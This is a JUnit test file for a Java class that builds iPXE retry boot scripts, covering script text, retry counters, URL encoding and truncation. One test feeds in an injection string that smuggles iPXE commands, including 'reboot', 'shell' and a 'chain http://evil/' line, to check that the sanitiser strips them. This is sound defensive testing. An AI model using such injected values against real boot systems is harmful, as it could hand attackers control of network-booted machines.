package org.bootproxy.http;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class IpxeRetryScriptTest {

    @Test
    void scriptEchoesSleepsAndChainsTheSameUrlAgain() {
        String s = IpxeRetryScript.build("inventory down", 30, "iPXE",
                List.of(Map.entry("mac", "52:54:00:aa:00:01"), Map.entry("serial", "SN 1")));
        assertThat(s).startsWith("#!ipxe\n")
                .contains("\necho bootproxy cannot answer yet: inventory down\n")
                .contains("\nsleep 30 || shell\n")
                .endsWith("\nchain --replace iPXE?mac=52%3A54%3A00%3Aaa%3A00%3A01&serial=SN%201&retry=1\n");
    }

    @Test
    void retryCounterGoesUpAndIsNotRepeated() {
        String s = IpxeRetryScript.build("x", 5, "iPXE", List.of(Map.entry("retry", "9"), Map.entry("bootstrap", "1")));
        assertThat(s).contains("chain --replace iPXE?bootstrap=1&retry=10\n").contains("echo retry 10 in 5 s");
    }

    @Test
    void reasonCannotInjectIpxeCommandsOrSettings() {
        String safe = IpxeRetryScript.echoSafe("a ${net0/mac} && reboot || shell ; # x\nchain http://evil/\r\\ \"q\" é");
        assertThat(safe).doesNotContain("$").doesNotContain("&").doesNotContain("|").doesNotContain("#")
                .doesNotContain("\n").doesNotContain("\r").doesNotContain("\\").doesNotContain(";")
                .contains("reboot").contains("'q'");
    }

    @Test
    void valuesThatCouldExpandAreEncodedInTheRetryUrl() {
        String url = IpxeRetryScript.retryUrl("iPXE", List.of(Map.entry("product", "${x} & y")), 1);
        assertThat(url).isEqualTo("iPXE?product=%24%7Bx%7D%20%26%20y&retry=1");
    }

    @Test
    void longReasonIsCut() {
        assertThat(IpxeRetryScript.echoSafe("x".repeat(5000))).hasSizeLessThan(400);
    }
}
